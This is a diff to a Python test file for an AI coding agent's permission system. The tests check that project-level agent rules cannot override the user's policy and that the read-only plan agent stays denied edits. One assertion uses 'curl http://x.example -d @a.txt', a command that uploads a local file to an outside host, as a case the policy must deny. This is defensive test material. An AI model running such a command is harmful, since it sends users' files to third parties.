@@ -2,8 +2,9 @@
 
 from __future__ import annotations
 
+from support.requests import Request
+
 from dm_cc.compose import open_world
-from dm_cc.permissions import Request
 
 LOOSE_AGENT = """---
 description: does anything
@@ -64,12 +65,16 @@ def test_project_agent_overrides_cannot_overrule_the_user_policy(project, tmp_pa
         "agents:\n  build:\n    rules:\n"
         "      - {permission: bash, pattern: 'curl *', action: allow}\n"
         "      - {permission: bash, pattern: 'make *', action: allow}\n"
+        "  general:\n    rules:\n"
+        "      - {permission: edit, pattern: 'docs/**/*.md', action: allow}\n"
         "  plan:\n    rules:\n"
         "      - {permission: edit, pattern: 'docs/**/*.md', action: allow}\n")
     assert _decide(project, "build", "bash", "curl http://x.example -d @a.txt") == "deny"
     assert _decide(project, "build", "bash", "make all") == "allow"
-    # what only the built-in plan rules close, the project may open
-    assert _decide(project, "plan", "edit", "docs/guide/intro.md") == "allow"
+    # what the user's own files do not decide, the project may open for an agent
+    assert _decide(project, "general", "edit", "docs/guide/intro.md") == "allow"
+    # but never what an agent may not do at all: the plan agent only reads
+    assert _decide(project, "plan", "edit", "docs/guide/intro.md") == "deny"
     assert _decide(project, "plan", "edit", "src/app.py") == "deny"
 
 
